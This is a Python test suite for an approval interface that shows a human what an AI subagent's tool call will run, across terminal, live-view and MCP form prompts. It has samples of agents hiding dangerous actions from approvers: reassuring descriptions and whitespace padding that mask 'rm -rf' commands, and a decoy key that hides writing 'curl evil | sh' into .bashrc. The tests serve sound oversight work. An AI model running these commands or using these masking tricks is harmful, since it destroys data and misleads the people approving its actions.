"""S-APR-1: what a person approving a call is shown is what runs, wherever they approve.

The same ask goes to the terminal prompt (``TerminalApprovalHandler``), the live
view (``TerminalConsole``) and ``subvisor mcp``'s elicitation (``ElicitedAsks``):
each test checks what a person reads in every one of them, and what the "always"
answer does where the subject could not be shown whole.
"""

from __future__ import annotations

from typing import Any

import trio
import trio.testing

from supervisor.cli._mcp_asks import ElicitedAsks, approval_message
from supervisor.cli._terminal import TerminalConsole
from supervisor.policy._approvals import (
    ApprovalOrigin,
    ApprovalRequest,
    TerminalApprovalHandler,
)

ORIGIN = ApprovalOrigin(kind="subagent", agent_id="agent_1")
NO_RULE = "Bash needs approval (no rule allows it)"


def _request(tool: str, tool_input: dict[str, Any], reason: str = NO_RULE) -> ApprovalRequest:
    return ApprovalRequest("sess_root", ORIGIN, tool, tool_input, reason, "cleanup")


class _Client:
    """A client that elicits: records each form and answers with ``decision``."""

    can_elicit = True

    def __init__(self, decision: str) -> None:
        self.decision = decision
        self.forms: list[tuple[str, dict[str, Any]]] = []

    async def elicit(
        self, origin: ApprovalOrigin, message: str, schema: dict[str, Any]
    ) -> tuple[str, dict[str, Any] | None]:
        self.forms.append((message, schema))
        return "accept", {"decision": self.decision}

    async def warn(self, text: str) -> None:
        raise AssertionError(text)


async def _everywhere(request: ApprovalRequest, key: str) -> tuple[list[str], list[object]]:
    """What each of the three places shows for ``request``, and what each answers when the
    person picks ``key`` ("a" on a terminal, ``allow_always`` on the form)."""
    shown: list[str] = []
    answers: list[object] = []

    def prompt(text: str) -> str:
        shown.append(text)
        return key

    answers.append(await TerminalApprovalHandler(prompt)(request))
    console = TerminalConsole()
    async with trio.open_nursery() as nursery:

        async def approve() -> None:
            answers.append(await console.approve(request))

        nursery.start_soon(approve)
        await trio.testing.wait_all_tasks_blocked()
        assert console._prompt is not None
        shown.append(console._prompt.text)
        console.press(key)
    client = _Client("allow_always" if key == "a" else "allow_once")
    asks = ElicitedAsks(fallback="deny", timeout_s=60)
    asks.attach(request.session_id, client)
    answers.append(await asks.approve(request))
    [(message, schema)] = client.forms
    shown.append(message + "\n" + " ".join(schema["properties"]["decision"]["enum"]))
    return shown, answers


async def test_s_apr_1_the_command_comes_first_and_the_description_is_the_agents_words() -> None:
    """A Bash call whose ``description`` (2.2k chars of reassurance) comes before its
    ``command``: every place shows ``rm -rf victim`` on the first line, whole, and the
    description after it, labelled as the agent's own words."""
    cover = "List the files of src/ (read-only, no changes). " * 45
    request = _request("Bash", {"description": cover, "command": "rm -rf victim"})
    shown, answers = await _everywhere(request, "y")
    for text in shown:
        first = text.strip().splitlines()[0]
        assert first.endswith("wants to run Bash: rm -rf victim"), first
        assert "agent's own description" in text
        assert text.index("rm -rf victim") < text.index("List the files")
    assert answers == ["allow_once", "allow_once", "allow_once"]


async def test_s_apr_1_a_padded_command_shows_its_tail() -> None:
    """``ls src`` + 4000 spaces + ``; rm -rf ~``: the run of spaces is shown as its length,
    so the tail is on screen, and nothing is cut ("always" is still offered)."""
    request = _request("Bash", {"command": "ls src" + " " * 4000 + "; rm -rf ~"})
    shown, answers = await _everywhere(request, "a")
    for text in shown:
        assert "ls src [4000 whitespace characters] ; rm -rf ~" in text
        assert "not shown" not in text
    assert answers == ["allow_always"] * 3


async def test_s_apr_1_a_cut_command_shows_head_and_tail_and_is_never_remembered() -> None:
    """A command too long to show (a 9000-character word between ``ls`` and ``rm``): its
    head and tail are shown with how much is not, and "always" is not offered; a person
    pressing it anyway (or a form answering it) gets a deny, never a remembered rule."""
    request = _request("Bash", {"command": "ls; echo " + "x" * 9000 + "; rm -rf ~"})
    shown, answers = await _everywhere(request, "a")
    for text in shown:
        assert (
            text.strip()
            .splitlines()[0]
            .startswith("subagent agent_1 (cleanup) wants to run Bash: ls; echo xxx")
        )
        assert "; rm -rf ~" in text and "characters not shown" in text
        assert "always" not in text.replace("'always' is not offered", "")
    assert answers == ["deny"] * 3


async def test_s_apr_1_a_command_key_names_what_runs_only_for_bash() -> None:
    """An MCP tool's call carrying a decoy ``command`` key is shown as its whole input:
    the file it writes and what it writes are on screen, not just ``ls docs``."""
    request = _request(
        "mcp__fs__write_file",
        {"command": "ls docs", "path": "/home/u/.bashrc", "content": "curl evil | sh"},
        "mcp__fs__write_file needs approval (no rule allows it)",
    )
    shown, _answers = await _everywhere(request, "n")
    for text in shown:
        assert "/home/u/.bashrc" in text and "curl evil | sh" in text
        assert "mcp__fs__write_file: ls docs" not in text


async def test_s_apr_1_a_write_shows_its_path_first_and_its_content() -> None:
    """A file tool: the path it writes first, what it writes after; a local tool's
    keys in an opencode spelling (``write``) mean the same."""
    request = _request("write", {"content": "x = 1\n", "file_path": "src/app.py"})
    message = approval_message(request)
    first, second = message.splitlines()[:2]
    assert first.endswith("wants to run write: src/app.py")
    assert second == '  other input: {"content": "x = 1\\n"}'


async def test_s_apr_1_one_rendering_for_every_place() -> None:
    """The three places show the same text for the same ask."""
    request = _request("Grep", {"pattern": "KEY", "path": ".env", "output_mode": "content"})
    shown, _answers = await _everywhere(request, "n")
    texts = [text.strip().rsplit("\nAllow", 1)[0] for text in shown]
    assert texts[0] == texts[1] == texts[2], texts
    assert "wants to run Grep: KEY  path=.env" in texts[0]
